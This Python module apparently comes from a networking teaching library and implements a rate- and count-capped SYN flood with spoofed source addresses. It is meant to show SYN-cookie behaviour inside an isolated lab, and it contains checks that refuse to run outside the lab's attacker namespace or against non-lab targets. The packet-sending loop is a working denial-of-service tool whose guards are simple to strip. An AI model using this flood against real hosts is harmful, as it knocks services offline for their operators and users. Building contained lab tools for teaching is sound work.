"""A bounded SYN flood for the lab: spoofed-source SYNs from the attacker host.

    with Lab("demo").enter("attacker"):
        result = flood("10.77.0.2", 80, 20_000, rate=10_000)
    print(result.summary())

It exists so a class can watch a listener without SYN cookies fill its queue
while one with cookies keeps serving, so it is fenced in:

- it runs only with the calling thread inside the attacker namespace of a lab
  that is up (`{prefix}-attacker` under /run/netns, not the host's namespace),
  aims only at another lab host, and refuses if that namespace has a route
  leading anywhere but the lab link (a default route, say);
- spoofed sources are unused addresses of the lab subnet (10.77.0.0/24 less the
  hosts' own), so SYN-ACKs to them go nowhere: the server's ARP for them fails,
  as it would for a real spoofed source; or, with random_sources, any unicast
  address outside it (a new source nearly every SYN), which the lab hosts have
  no route to;
- count and time are capped (MAX_COUNT SYNs, MAX_DURATION seconds).

The lab link is a bridge inside the lab's own switch namespace with no address,
no uplink and no routes, so nothing sent here can leave the lab's namespaces.

SYNs are built with the struct codec and sent through one raw link opened once
(tcpscapy.io.rawsock); no Scapy per packet. They carry the options a Linux client
sends (MSS, SACK-permitted, timestamps, window scale), so cookies encode them.
"""

from __future__ import annotations

import ipaddress
import json
import os
import random
import subprocess
import time
from collections.abc import Sequence
from dataclasses import dataclass
from typing import overload

from tcpscapy import netns
from tcpscapy.core.options import Options
from tcpscapy.core.segment import SYN, Segment
from tcpscapy.io import codec
from tcpscapy.io.rawsock import Link, LinkError, open_link
from tcpscapy.lab import ADDRESSES, PREFIXLEN, Lab, LabError

__all__ = [
    "DEFAULT_COUNT",
    "MAX_COUNT",
    "MAX_DURATION",
    "FloodRefused",
    "FloodResult",
    "flood",
    "spoof_pool",
]

DEFAULT_COUNT = 10_000
MAX_COUNT = 1_000_000
MAX_DURATION = 60.0  # seconds; also the cap when no duration is given
ATTACKER = "attacker"
CLOCK_EVERY = 64  # SYNs between looks at the clock (rate pacing, time cap)
SYN_WINDOW = 64240  # what Linux offers in a SYN on Ethernet
SYN_OPTIONS = Options(mss=1460, sack_permitted=True, timestamps=(0, 0), wscale=7)
LAB_NET = ipaddress.IPv4Network(f"{ADDRESSES['client']}/{PREFIXLEN}", strict=False)


class FloodRefused(Exception):
    """The flood will not run here (not in a lab attacker namespace, bad target...)."""


@dataclass(frozen=True)
class FloodResult:
    target: str
    port: int
    sent: int
    errors: int  # sends the link refused (its queue stayed full)
    elapsed: float  # seconds from the first SYN to the last
    stopped: str  # why it ended: "count", "duration" or "interrupted"
    sources: int  # size of the spoofed address pool
    outside: bool = False  # sources drawn from outside the lab subnet (random_sources)

    @property
    def rate(self) -> float:
        """SYNs per second achieved."""
        return self.sent / self.elapsed if self.elapsed > 0 else 0.0

    def summary(self) -> str:
        return (f"sent {self.sent} SYNs to {self.target}:{self.port} in {self.elapsed:.2f} s "
                f"({self.rate:,.0f}/s) from {self.sources:,} spoofed sources "
                f"{'outside' if self.outside else 'in'} {LAB_NET}; "
                f"stopped by {self.stopped}" + (f"; {self.errors} send errors"
                                                 if self.errors else ""))

    def as_dict(self) -> dict[str, object]:
        return {"target": self.target, "port": self.port, "sent": self.sent,
                "errors": self.errors, "elapsed": round(self.elapsed, 6),
                "rate": round(self.rate, 1), "stopped": self.stopped, "sources": self.sources,
                "outside": self.outside}


def spoof_pool() -> list[str]:
    """Addresses of the lab subnet that no lab host has: nobody answers ARP for them."""
    taken = set(ADDRESSES.values())
    return [str(ip) for ip in LAB_NET.hosts() if str(ip) not in taken]


def flood(target_ip: str, port: int, count: int, *, rate: float | None = None,
          duration: float | None = None, seed: int | None = None,
          random_sources: bool = False) -> FloodResult:
    """Send `count` spoofed-source SYNs to target_ip:port from the lab's attacker host.

    `rate` caps SYNs per second (None: as fast as the link takes them);
    `duration` caps the run in seconds (at most MAX_DURATION, which also applies
    when it is None); `seed` makes sources, ports and ISNs repeatable;
    `random_sources` draws each source from all unicast IPv4 outside the lab
    subnet (as hping3 --rand-source) instead of the lab's unused addresses: a
    new source nearly every SYN. The frames still stay on the lab link.
    Raises FloodRefused (one line) when not inside a lab attacker namespace or
    for a target outside the lab; ValueError for out-of-range numbers.
    """
    count, rate, limit = _check_numbers(count, rate, duration, port)
    lab = _attacker_lab()
    _check_target(lab, target_ip)
    _check_routes()
    rng = random.Random(seed if seed is not None else int.from_bytes(os.urandom(8), "big"))
    pool = RandomSources(rng) if random_sources else spoof_pool()
    try:
        link = open_link(target_ip)
    except (LinkError, OSError) as exc:
        raise FloodRefused(f"cannot reach {target_ip} from the attacker host: {exc}") from None
    with link:
        return _send(link, target_ip, port, count, rate, limit, pool, rng)


class RandomSources(Sequence[str]):
    """Every unicast IPv4 address outside the lab subnet, loopback and 0/8, as a
    sequence `random.choice` can draw from (nothing is listed)."""

    FIRST, END = 0x01000000, 0xE0000000  # 1.0.0.0 up to multicast (224/4)

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng

    def __len__(self) -> int:
        return self.END - self.FIRST

    @overload
    def __getitem__(self, index: int) -> str: ...
    @overload
    def __getitem__(self, index: slice) -> Sequence[str]: ...
    def __getitem__(self, index: int | slice) -> str | Sequence[str]:
        if isinstance(index, slice):
            raise TypeError("RandomSources is drawn from, not sliced")
        address = ipaddress.IPv4Address(self.FIRST + index)
        if address in LAB_NET or address.is_loopback:
            return self[self._rng.randrange(len(self))]  # redraw: rare
        return str(address)


def _send(link: Link, target: str, port: int, count: int, rate: float | None, limit: float,
          pool: Sequence[str], rng: random.Random) -> FloodResult:
    send = link.send
    encode, choice, getrandbits = codec.encode, rng.choice, rng.getrandbits
    sent = errors = 0
    stopped = "count"
    start = time.monotonic()
    try:
        while sent + errors < count:
            now = time.monotonic()
            if now - start >= limit:
                stopped = "duration"
                break
            if rate is not None:
                ahead = start + (sent + errors) / rate - now
                if ahead > 0:
                    time.sleep(min(ahead, limit - (now - start)))
            for _ in range(min(CLOCK_EVERY, count - sent - errors)):
                # Client-like SYN: ephemeral port, random ISN and TSval.
                tsval = getrandbits(32)
                seg = Segment(choice(pool), target, 1024 + getrandbits(16) % 64512, port,
                              getrandbits(32), 0, SYN, SYN_WINDOW,
                              SYN_OPTIONS._replace(timestamps=(tsval, 0)))
                try:
                    send(encode(seg, ip_id=getrandbits(16)))
                    sent += 1
                except (LinkError, OSError):  # a full queue: send waited up to a second
                    errors += 1
                    break  # look at the clock before trying again
    except KeyboardInterrupt:
        stopped = "interrupted"
    elapsed = time.monotonic() - start
    return FloodResult(target, port, sent, errors, elapsed, stopped, len(pool),
                       isinstance(pool, RandomSources))


# -- the fence --------------------------------------------------------------------------


def _check_numbers(count: int, rate: float | None, duration: float | None,
                   port: int) -> tuple[int, float | None, float]:
    if isinstance(count, bool) or not isinstance(count, int) or not 1 <= count <= MAX_COUNT:
        raise ValueError(f"count must be a whole number 1-{MAX_COUNT:,}, not {count!r}")
    if isinstance(port, bool) or not isinstance(port, int) or not 1 <= port <= 0xFFFF:
        raise ValueError(f"port must be 1-65535, not {port!r}")
    if rate is not None and (isinstance(rate, bool) or not isinstance(rate, int | float)
                             or not 0 < rate < float("inf")):
        raise ValueError(f"rate must be SYNs per second > 0, not {rate!r}")
    limit = MAX_DURATION if duration is None else duration
    if isinstance(limit, bool) or not isinstance(limit, int | float) \
            or not 0 < limit <= MAX_DURATION:
        raise ValueError(f"duration must be seconds > 0 and <= {MAX_DURATION:g}, "
                         f"not {duration!r}")
    return count, None if rate is None else float(rate), float(limit)


def _attacker_lab() -> Lab:
    """The lab whose attacker namespace this thread is in; FloodRefused otherwise."""
    here = netns.current_id()
    if here == _init_namespace():
        raise FloodRefused("refusing to flood from the host's own network namespace: "
                           "run inside a lab's attacker host (tcpscapy lab flood does)")
    name = _namespace_name(here)
    suffix = f"-{ATTACKER}"
    if name is None or not name.endswith(suffix):
        where = f"namespace {name!r}" if name else "an unnamed network namespace"
        raise FloodRefused(f"refusing to flood from {where}: only a lab's attacker host may")
    try:
        lab = Lab(name[: -len(suffix)])
        state = lab.status()["state"]
    except (LabError, ValueError) as exc:
        raise FloodRefused(f"refusing to flood: {name} is not a tcpscapy lab ({exc})") from None
    if state != "up":
        raise FloodRefused(f"refusing to flood: lab {lab.prefix!r} is {state}, not up")
    return lab


def _init_namespace() -> int | None:
    """The namespace of pid 1 (the host's), when this process may look at it."""
    try:
        return os.stat("/proc/1/ns/net").st_ino
    except OSError:
        return None  # e.g. a container: the name check below still holds


def _namespace_name(ns_id: int) -> str | None:
    """The /run/netns name bound to namespace `ns_id`, if any."""
    try:
        names = os.listdir(netns.NETNS_DIR)
    except FileNotFoundError:
        return None
    for name in sorted(names):
        try:
            if os.stat(os.path.join(netns.NETNS_DIR, name)).st_ino == ns_id:
                return name
        except OSError:
            continue
    return None


def _check_target(lab: Lab, target_ip: str) -> None:
    hosts = [h for h in lab.hosts if h != ATTACKER]
    if target_ip not in {lab.addr(h) for h in hosts}:
        raise FloodRefused(f"refusing to flood {target_ip!r}: the target must be a lab host "
                           f"({', '.join(f'{h} {lab.addr(h)}' for h in hosts)})")


def _check_routes() -> None:
    """Refuse if this namespace routes anywhere but the lab subnet (no way out)."""
    try:
        out = subprocess.run(["ip", "-j", "-4", "route", "show", "table", "all"],
                             capture_output=True, text=True, check=True, timeout=10).stdout
    except (OSError, subprocess.SubprocessError) as exc:
        raise FloodRefused(f"cannot list routes with `ip`: {exc}") from None
    for route in json.loads(out or "[]"):
        if route.get("type", "unicast") != "unicast":
            continue  # local, broadcast: this host's own addresses
        dst = route.get("dst", "")
        net = None if dst == "default" else ipaddress.ip_network(dst, strict=False)
        if net is None or not net.subnet_of(LAB_NET) or route.get("gateway"):
            raise FloodRefused(f"refusing to flood: the attacker host has a route out of the "
                               f"lab ({dst} {route.get('dev', '')})")
